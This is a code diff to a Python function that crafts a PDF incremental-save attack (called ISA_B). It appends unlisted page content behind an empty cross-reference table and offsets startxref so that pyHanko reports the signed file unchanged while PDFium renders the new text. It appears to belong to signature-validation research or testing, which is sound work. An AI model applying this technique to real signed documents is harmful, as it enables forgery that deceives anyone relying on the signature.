@@ -179,7 +179,11 @@ def overlay(data: bytes) -> bytes:
 
 
 def hidden_objects(data: bytes) -> bytes:
-    """Append a new page content that no cross-reference lists, behind an empty table (the ISA_B attack)."""
+    """Append a new page content that no cross-reference lists, behind an empty table (the ISA_B attack).
+
+    `startxref` points a little into the table: pyHanko reads on and finds nothing changed, PDFium gives up,
+    rebuilds the file by scanning, and shows the new content.
+    """
     with pikepdf.open(io.BytesIO(data)) as pdf:
         number = pdf.pages[0].Contents.objgen[0]
         size = int(pdf.trailer.Size)
@@ -187,7 +191,7 @@ def hidden_objects(data: bytes) -> bytes:
     body = b"BT /F1 18 Tf 30 300 Td (Da bi sua) Tj ET"
     added = b"\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (number, len(body), body)
     previous = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
-    table = len(data) + len(added)
+    table = len(data) + len(added) + len("xre")
     added += b"xref\n0 0\ntrailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
         size,
         root,
